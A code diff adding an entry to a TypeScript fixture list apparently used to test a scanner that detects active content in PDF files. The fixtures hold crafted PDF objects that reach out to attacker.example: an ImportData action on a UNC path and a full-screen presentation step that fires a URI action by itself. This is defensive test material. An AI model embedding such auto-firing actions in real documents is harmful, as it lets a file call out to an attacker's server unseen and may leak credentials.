@@ -228,6 +228,14 @@ const PDF_CLASSES: PdfClass[] = [
       { num: n, body: '<< /FT /Btn /T (load) /A << /S /ImportData /F (\\\\\\\\attacker.example\\\\x.fdf) >> >>' },
     ],
   },
+  // Round 12: a presentation step's next action, run by itself after /Dur in full-screen mode.
+  {
+    id: 'presteps-uri',
+    expect: 'PDF_ACTION',
+    catalog: '/PageMode /FullScreen',
+    page: '/PresSteps << /Type /NavNode /NA 6 0 R /Dur 0 >>',
+    extra: (n) => [{ num: n, body: '<< /S /URI /URI (http://attacker.example/step) >>' }],
+  },
 ];
 
 type Placement = 'plain' | 'escaped' | 'incremental' | 'middle' | `objstm-${Exclude<Packing, 'none'>}`;
